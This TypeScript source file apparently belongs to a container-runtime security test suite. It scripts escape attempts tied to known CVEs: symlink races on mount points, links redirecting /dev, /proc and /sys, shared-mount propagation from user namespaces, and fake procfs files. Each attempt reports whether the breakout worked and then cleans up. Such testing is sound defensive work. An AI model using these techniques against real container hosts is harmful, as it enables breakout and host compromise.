/** Mount points that an image bends, before or while they are used. */
import { spawn, spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { withUserNamespace } from '../../runtime-spec/support.ts';
import { type Arena, type Attack, shortly, type Verdict } from '../arena.ts';

/** Makes a name of the image a link while something is done. */
export function bent<T>(arena: Arena, name: string, target: string, act: () => T): T {
  const path = join(arena.rootfs, name);
  const kept = `${path}.kept`;
  if (existsSync(path)) renameSync(path, kept);
  symlinkSync(target, path);
  try {
    return act();
  } finally {
    rmSync(path, { recursive: true, force: true });
    if (existsSync(kept)) renameSync(kept, path);
  }
}

/** A mount of the host that tells its copies of what is mounted below it, while something is done. */
function sharedMount<T>(path: string, act: (path: string) => T): T {
  mkdirSync(path);
  spawnSync('mount', ['-t', 'tmpfs', 'tmpfs', path]);
  spawnSync('mount', ['--make-shared', path]);
  mkdirSync(join(path, 'below'));
  try {
    return act(path);
  } finally {
    spawnSync('umount', ['-R', path]);
    rmSync(path, { recursive: true });
  }
}

/** A hook that notes what is mounted outside, in the container's mount namespace before its root is changed. */
const noteMounts = (arena: Arena) => ({
  path: '/bin/sh',
  args: [
    'sh',
    '-c',
    `pid=$(sed 's/.*"pid": *\\([0-9]*\\).*/\\1/'); grep -F ' ${arena.outside}' /proc/$pid/mountinfo >> ${arena.sandbox.directory}/noted; true`,
  ],
});

export const mountAttacks: readonly Attack[] = [
  {
    name: 'exchange a mount point for a link while it is mounted on, 40 times',
    known: 'CVE-2021-30465, CVE-2024-45310',
    async act(arena) {
      const [place, link] = ['swap', 'swap.link'].map((name) => join(arena.rootfs, name)) as [string, string];
      mkdirSync(place);
      symlinkSync(arena.outside, link);
      const swapper = spawn(process.execPath, [join(import.meta.dirname, '../exchange.ts'), place, link], {
        stdio: 'inherit',
      });
      writeFileSync(join(arena.sandbox.directory, 'noted'), '');
      let ran = 0;
      for (let round = 0; round < 40; round += 1) {
        const { code } = arena.run('true', (spec) => {
          for (const name of ['a', 'b', 'c', 'd'])
            spec.mounts!.push({ destination: `/swap/${name}${round}`, type: 'tmpfs', source: 'tmpfs', options: [] });
          spec.hooks = { createRuntime: [noteMounts(arena)] };
        });
        if (code === 0) ran += 1;
      }
      swapper.kill('SIGKILL');
      await new Promise((resolve) => swapper.once('exit', resolve));
      const mounted = readFileSync(join(arena.sandbox.directory, 'noted'), 'utf8').split('\n').length - 1;
      const made = arena.made();
      for (const path of [place, link]) rmSync(path, { recursive: true, force: true });
      for (const name of made) rmSync(join(arena.outside, name), { recursive: true, force: true });
      const what = `${mounted} mounts, ${made.length} directories outside; ${ran} ran`;
      return { escaped: mounted > 0 || made.length > 0, what };
    },
  },
  {
    name: 'a mount below a shared mount of the host, from a user namespace, with other owners too',
    known: 'crun 1.8, where both come through',
    act(arena) {
      // A user namespace's root is nobody to the directories above its root filesystem.
      chmodSync(arena.sandbox.directory, 0o711);
      const through = sharedMount(join(arena.sandbox.directory, 'shared'), (shared) =>
        [['rbind'], ['rbind', 'idmap']].filter((options) => {
          const id = arena.start('sleep 100', (spec) => {
            withUserNamespace(spec);
            spec.mounts!.push(
              { destination: '/tmp', type: 'bind', source: shared, options },
              { destination: '/tmp/below', type: 'tmpfs', source: 'tmpfs', options: [] },
            );
          });
          const seen = readFileSync('/proc/self/mountinfo', 'utf8').includes(` ${shared}/below `);
          arena.stop(id);
          return seen;
        }),
      );
      const what = through.length > 0 ? `seen on the host with ${through.join(' and ')}` : 'not seen on the host';
      return { escaped: through.length > 0, what };
    },
  },
  {
    name: 'a mount point behind a link that leads out',
    known: 'CVE-2021-30465',
    act(arena) {
      return bent(arena, 'out', `../../../../../../../..${arena.outside}`, () => {
        const mount = { destination: '/out/made', type: 'tmpfs', source: 'tmpfs', options: [] };
        const outcome = arena.run('true', (spec) => spec.mounts!.push(mount));
        return { escaped: arena.made().length > 0, what: `${shortly(outcome)}, nothing made outside` };
      });
    },
  },
  {
    name: '/dev is a link that leads out',
    known: 'CVE-2026-41579',
    act(arena) {
      return bent(arena, 'dev', arena.outside, () => {
        const outcome = arena.run('true', (spec) => {
          spec.mounts = spec.mounts!.filter(({ destination }) => !destination?.startsWith('/dev'));
        });
        const made = arena.made();
        for (const name of made) rmSync(join(arena.outside, name), { recursive: true, force: true });
        return {
          escaped: made.length > 0,
          what: made.length > 0 ? `made ${made.slice(0, 3)} outside` : shortly(outcome),
        };
      });
    },
  },
  {
    name: '/proc is a link to a directory of the image',
    known: 'CVE-2019-19921, CVE-2023-27561',
    act: (arena) => onLinkedKernelFiles(arena, 'proc', 'test -e /evil/self/exe || test -e /evil/sysrq-trigger'),
  },
  {
    name: '/sys is a link to a directory of the image',
    known: 'CVE-2023-28642',
    act: (arena) => onLinkedKernelFiles(arena, 'sys', 'test -e /evil/kernel'),
  },
  {
    name: 'a directory of false files over /proc',
    known: 'CVE-2019-16884, CVE-2025-52881',
    act(arena) {
      const fake = join(arena.rootfs, 'fake');
      mkdirSync(join(fake, 'self/attr'), { recursive: true });
      mkdirSync(join(fake, 'sys/net/ipv4'), { recursive: true });
      for (const name of ['self/attr/exec', 'sys/net/ipv4/ip_forward']) writeFileSync(join(fake, name), '');
      const outcome = arena.run('true', (spec) => {
        spec.mounts!.push({ destination: '/proc', type: 'bind', source: fake, options: ['bind', 'rw'] });
        spec.linux.sysctl = { 'net.ipv4.ip_forward': '1' };
      });
      return { escaped: outcome.code === 0, what: shortly(outcome) };
    },
  },
  {
    name: 'a link of the image that leads a mount into /proc',
    known: 'CVE-2019-16884',
    act: (arena) =>
      bent(arena, 'p', '/proc', () => {
        const outcome = arena.run('true', (spec) =>
          spec.mounts!.push({ destination: '/p/self', type: 'bind', source: arena.outside, options: ['bind'] }),
        );
        return { escaped: outcome.code === 0, what: shortly(outcome) };
      }),
  },
  {
    name: 'false files over /proc by a container, then an exec that writes to its /proc',
    known: 'CVE-2025-52881',
    act(arena) {
      const set =
        'mount -t tmpfs t /proc; mkdir -p /proc/self; : > /proc/self/oom_score_adj; ln -s self /proc/thread-self; echo x > /ready; exec sleep 1000';
      const id = arena.start(set, (spec) => {
        for (const kind of ['bounding', 'effective', 'permitted'] as const)
          spec.process.capabilities![kind] = [...spec.process.capabilities![kind]!, 'CAP_SYS_ADMIN'];
      });
      for (let round = 0; round < 100 && !arena.read('ready'); round += 1) arena.exec(id, 'true');
      const process = join(arena.sandbox.directory, 'process.json');
      const args = ['/bin/cat', '/proc/self/oom_score_adj'];
      writeFileSync(process, JSON.stringify({ args, cwd: '/', oomScoreAdj: 321, user: { uid: 0, gid: 0 } }));
      const outcome = arena.sandbox.run(['exec', '--process', process, id]);
      arena.stop(id);
      rmSync(join(arena.rootfs, 'ready'), { force: true });
      const escaped = outcome.stdout.includes('321');
      return { escaped, what: escaped ? 'the false file was written' : `${shortly(outcome)}, the false file is empty` };
    },
  },
];

/** procfs or sysfs must not come where nothing of it is masked or read-only. */
function onLinkedKernelFiles(arena: Arena, name: string, there: string): Verdict {
  mkdirSync(join(arena.rootfs, 'evil'), { recursive: true });
  return bent(arena, name, '/evil', () => {
    const outcome = arena.run(there);
    return { escaped: outcome.code === 0, what: shortly(outcome) };
  });
}
